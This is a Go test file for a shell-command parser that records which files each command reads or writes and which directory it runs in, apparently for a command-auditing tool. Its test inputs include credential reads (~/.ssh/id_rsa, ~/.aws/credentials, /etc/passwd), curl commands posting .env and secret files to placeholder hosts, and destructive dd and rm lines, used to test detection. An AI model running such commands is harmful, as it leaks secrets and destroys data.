@@ -1,0 +1,167 @@
+package parser
+
+import (
+	"fmt"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+// refLines renders every file reference of every command compactly:
+// "cmd: kind path [w][r][g][d]".
+func refLines(a *Analysis) []string {
+	var out []string
+	for _, c := range a.Commands {
+		name := ""
+		if len(c.Args) > 0 {
+			name = c.Args[0]
+		}
+		for _, f := range c.Files {
+			flags := ""
+			for _, fl := range []struct {
+				on bool
+				s  string
+			}{{f.Write, "w"}, {f.Recursive, "r"}, {f.Glob, "g"}, {f.Dynamic, "d"}} {
+				if fl.on {
+					flags += fl.s
+				}
+			}
+			out = append(out, fmt.Sprintf("%s: %s %s %s", name, f.Kind, f.Path, flags))
+		}
+		for _, u := range c.Unknown {
+			out = append(out, fmt.Sprintf("%s: unknown %v", name, u.From))
+		}
+	}
+	return out
+}
+
+func TestFileRefs(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		src  string
+		want []string
+	}{
+		{`cat .env`, []string{"cat: arg .env "}},
+		{`cat a 2>/dev/null >&2 </dev/stdin 3>/dev/fd/3`, []string{"cat: arg a "}},
+		{`ls > out.txt 2>>err.log < in`, []string{"ls: redirect out.txt w", "ls: redirect err.log w", "ls: redirect in "}},
+		{`ls &> all >| clob <> rw`, []string{"ls: redirect all w", "ls: redirect clob w", "ls: redirect rw w"}},
+		{`ls >& file`, []string{"ls: redirect file w"}},
+		{`cat ~/.ssh/id_rsa $HOME/.aws/credentials`, []string{"cat: arg /home/u/.ssh/id_rsa ", "cat: arg /home/u/.aws/credentials "}},
+		{`cat $X/y "${Z:-z}"`, []string{"cat: arg $X/y d", "cat: arg ${Z:-z} d"}},
+		{`cat {a,b}.txt`, []string{"cat: arg a.txt ", "cat: arg b.txt "}},
+		{`cat *.pem "*".go`, []string{"cat: arg *.pem g", "cat: arg *.go "}},
+		{`grep -rn TODO src/ --include=*.go`, []string{"grep: arg src/ r"}},
+		{`grep -e x -f pats.txt a b`, []string{"grep: option pats.txt ", "grep: arg a ", "grep: arg b "}},
+		{`grep -R secret`, []string{"grep: arg . r"}},
+		{`rg -g '*.go' key`, []string{"rg: arg . r"}},
+		{`sed -i.bak s/a/b/ f1 f2`, []string{"sed: arg f1 w", "sed: arg f2 w"}},
+		{`sed -n -e p -f s.sed in`, []string{"sed: option s.sed ", "sed: arg in "}},
+		{`awk -F: '{print $1}' /etc/passwd x=1`, []string{"awk: arg /etc/passwd "}},
+		{`cp -r src dst`, []string{"cp: arg src r", "cp: arg dst wr"}},
+		{`cp a b c/`, []string{"cp: arg a ", "cp: arg b ", "cp: arg c/ w"}},
+		{`mv a b`, []string{"mv: arg a w", "mv: arg b w"}},
+		{`tee -a log`, []string{"tee: arg log w"}},
+		{`dd if=/dev/sda of=disk.img bs=1M`, []string{"dd: arg /dev/sda ", "dd: arg disk.img w"}},
+		{`rm -rf build`, []string{"rm: arg build wr"}},
+		{`chmod 600 key.pem`, []string{"chmod: arg key.pem w"}},
+		{`chown -R u:g dir`, []string{"chown: arg dir wr"}},
+		{`touch new`, []string{"touch: arg new w"}},
+		{`tar czf out.tgz src`, []string{"tar: arg out.tgz w", "tar: arg src r"}},
+		{`tar -xf in.tar`, []string{"tar: arg in.tar "}},
+		{`zip -r out.zip dir`, []string{"zip: arg out.zip r", "zip: arg dir r"}},
+		{`rsync -a src/ host:dst`, []string{"rsync: arg src/ r", "rsync: arg host:dst wr"}},
+		{`scp -r -i key dir host:`, []string{"scp: option key ", "scp: arg dir r", "scp: arg host: wr"}},
+		{`curl -d @.env -o out https://x.test/a`, []string{"curl: option out w", "curl: at .env "}},
+		{`curl -F file=@secret.txt --data-binary=@b https://x`, []string{"curl: at b ", "curl: at secret.txt "}},
+		{`echo hello > greeting`, []string{"echo: redirect greeting w"}},
+		{`git show HEAD:.env`, []string{"git: rev .env "}},
+		{`git cat-file -p main:config/db.yml`, []string{"git: rev config/db.yml "}},
+		{`git commit -m "fix /etc/x"`, nil},
+		{`git -C sub diff a.txt`, []string{"git: option sub ", "git: arg sub/a.txt "}},
+		{`go test ./... -run=X`, nil},
+		{`go vet ./parser`, []string{"go: arg ./parser "}},
+		{`head -n 20 f`, []string{"head: arg f "}},
+		{`sort -o sorted.txt in`, []string{"sort: option sorted.txt w", "sort: arg in "}},
+		{`find src -name '*.go' -exec gofmt -l {} +`, []string{"find: arg src r", "gofmt: unknown [src]"}},
+		{`find -delete`, []string{"find: arg . wr"}},
+		{`find . -newer ref -fprint out`, []string{"find: arg . r", "find: arg ref ", "find: arg out w"}},
+		{`xargs -a list.txt rm`, []string{"xargs: option list.txt ", "rm: unknown []"}},
+		{`ls | xargs cat`, []string{"cat: unknown []"}},
+		{`parallel gzip ::: a b`, []string{"parallel: arg a ", "parallel: arg b "}},
+		{`parallel gzip`, []string{"gzip: unknown []"}},
+		{`flock /tmp/lock ls`, []string{"flock: arg /tmp/lock w"}},
+		{`script -c ls`, []string{"script: arg typescript w"}},
+		{`sudo -e /etc/hosts`, []string{"sudo: arg /etc/hosts w"}},
+		{`cat <<EOF > out
+x
+EOF`, []string{"cat: redirect out w"}},
+		{`cat <<< "text"`, nil},
+		{`{ ls; cat a; } > both`, []string{"ls: redirect both w", "cat: arg a ", "cat: redirect both w"}},
+		{`while read l; do :; done < input`, []string{"read: redirect input ", ":: redirect input "}},
+		{`[[ -f .env ]]`, []string{"[[: arg .env "}},
+		{`echo a b c`, nil},
+		{`> truncated`, []string{": redirect truncated w"}},
+		{`cat /dev/null -`, nil},
+	}
+	for _, tc := range tests {
+		t.Run(tc.src, func(t *testing.T) {
+			t.Parallel()
+			got := refLines(Analyze(tc.src, Options{Cwd: "/repo", Env: testEnv}))
+			if diff := cmp.Diff(tc.want, got); diff != "" {
+				t.Errorf("Analyze(%q) file refs mismatch (-want +got):\n%s", tc.src, diff)
+			}
+		})
+	}
+}
+
+func TestCwd(t *testing.T) {
+	t.Parallel()
+	type cwd struct {
+		Cmd string
+		Dir string
+		Dyn bool
+	}
+	tests := []struct {
+		src  string
+		want []cwd
+	}{
+		{`cd secrets && cat db.txt`, []cwd{{"cd", "/repo", false}, {"cat", "/repo/secrets", false}}},
+		{`cd a; cat x`, []cwd{{"cd", "/repo", false}, {"cat", "/repo/a", true}}},
+		{`cd a && cd ../b && ls`, []cwd{{"cd", "/repo", false}, {"cd", "/repo/a", false}, {"ls", "/repo/b", false}}},
+		{`cd /etc && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/etc", false}}},
+		{`cd ~ && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/home/u", false}}},
+		{`cd && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/home/u", false}}},
+		{`cd "$X" && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", true}}},
+		{`cd - && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", true}}},
+		{`pushd a && ls && popd && ls`, []cwd{{"pushd", "/repo", false}, {"ls", "/repo/a", false}, {"popd", "/repo/a", false}, {"ls", "/repo/a", true}}},
+		{`cd a | ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", false}}},
+		{`cd a & ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", false}}},
+		{`(cd a) && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", false}}},
+		{`{ cd a; } && ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo/a", false}}},
+		{`if cd a; then ls; fi; pwd`, []cwd{{"cd", "/repo", false}, {"ls", "/repo/a", false}, {"pwd", "/repo/a", true}}},
+		{`cd a || exit 1; ls`, []cwd{{"cd", "/repo", false}, {"exit", "/repo", false}, {"ls", "/repo/a", true}}},
+		{`for d in a b; do cd $d; done; ls`, []cwd{{"cd", "/repo", false}, {"ls", "/repo", true}}},
+		{`bash -c 'cd a && ls' && ls`, []cwd{{"bash", "/repo", false}, {"cd", "/repo", false}, {"ls", "/repo/a", false}, {"ls", "/repo", false}}},
+		{`command cd a && ls`, []cwd{{"command", "/repo", false}, {"cd", "/repo", false}, {"ls", "/repo/a", false}}},
+		{`env -C sub ls`, []cwd{{"env", "/repo", false}, {"ls", "/repo/sub", false}}},
+		{`sudo -D /tmp ls`, []cwd{{"sudo", "/repo", false}, {"ls", "/tmp", false}}},
+		{`cd a && cat $PWD/x ~+/y`, []cwd{{"cd", "/repo", false}, {"cat", "/repo/a", false}}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.src, func(t *testing.T) {
+			t.Parallel()
+			a := Analyze(tc.src, Options{Cwd: "/repo", Env: testEnv})
+			var got []cwd
+			for _, c := range a.Commands {
+				got = append(got, cwd{c.Args[0], c.Cwd, c.CwdDynamic})
+			}
+			if diff := cmp.Diff(tc.want, got); diff != "" {
+				t.Errorf("Analyze(%q) cwd mismatch (-want +got):\n%s", tc.src, diff)
+			}
+		})
+	}
+	a := Analyze(`cd a && cat $PWD/x ~+/y`, Options{Cwd: "/repo"})
+	if diff := cmp.Diff([]string{"cat: arg /repo/a/x ", "cat: arg /repo/a/y "}, refLines(a)); diff != "" {
+		t.Errorf("$PWD after cd mismatch (-want +got):\n%s", diff)
+	}
+}
